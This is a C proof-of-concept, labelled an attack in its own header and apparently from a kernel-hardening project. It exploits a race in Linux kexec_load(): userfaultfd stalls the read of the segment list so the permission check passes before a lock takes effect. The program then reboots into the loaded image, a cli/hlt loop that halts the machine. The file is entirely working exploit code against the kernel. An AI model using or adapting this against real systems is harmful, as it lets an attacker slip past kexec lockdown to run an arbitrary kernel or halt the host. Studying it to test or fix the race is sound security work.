// SPDX-License-Identifier: GPL-2.0-or-later
// Copyright (C) 2026 The Ringward authors
// Attack: a kexec_load() that passes its permission check before the lock and ends after it; then the start
// of the loaded kernel.
//
// The list of segments lies on a page that userfaultfd withholds until the file named as argument exists.
#include <fcntl.h>
#include <linux/userfaultfd.h>
#include <pthread.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <unistd.h>

#define PAGE          4096u
#define TARGET        0x4000000ul /* some RAM */
#define REBOOT_MAGIC1 0xfee1deadu
#define REBOOT_MAGIC2 672274793u
#define REBOOT_KEXEC  0x45584543u

struct segment {
	const void *buf;
	size_t bufsz;
	const void *mem;
	size_t memsz;
};

/* cli; hlt; and again */
static uint8_t code[PAGE] __attribute__((aligned(4096))) = { 0xfa, 0xf4, 0xeb, 0xfd };

static void *load(void *segments)
{
	return (void *)syscall(SYS_kexec_load, TARGET, 1ul, segments, 0ul);
}

static int fail(const char *what)
{
	perror(what);
	return 1;
}

int main(int argc, char **argv)
{
	struct segment segment = { code, PAGE, (void *)TARGET, PAGE };
	struct uffdio_api api = { .api = UFFD_API };
	struct uffdio_register reg = { .mode = UFFDIO_REGISTER_MODE_MISSING };
	struct uffdio_copy copy = { .len = PAGE };
	static uint8_t page[PAGE] __attribute__((aligned(4096)));
	void *held = mmap(NULL, PAGE, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0), *result;
	int fd = (int)syscall(SYS_userfaultfd, O_CLOEXEC);
	struct uffd_msg msg;
	pthread_t thread;

	if (argc != 2 || held == MAP_FAILED || fd < 0 || ioctl(fd, UFFDIO_API, &api))
		return fail("userfaultfd");
	reg.range.start = (uintptr_t)held;
	reg.range.len = PAGE;
	if (ioctl(fd, UFFDIO_REGISTER, &reg) || pthread_create(&thread, NULL, load, held))
		return fail("register");
	if (read(fd, &msg, sizeof(msg)) != sizeof(msg))
		return fail("read");
	puts("load is held");
	fflush(stdout);
	while (access(argv[1], F_OK))
		usleep(10000);
	memcpy(page, &segment, sizeof(segment));
	copy.dst = (uintptr_t)held;
	copy.src = (uintptr_t)page;
	if (ioctl(fd, UFFDIO_COPY, &copy) || pthread_join(thread, &result))
		return fail("copy");
	printf("load: %ld\n", (long)result);
	fflush(stdout);
	sleep(1);
	printf("start: %ld\n", syscall(SYS_reboot, REBOOT_MAGIC1, REBOOT_MAGIC2, REBOOT_KEXEC, NULL));
	return 0;
}
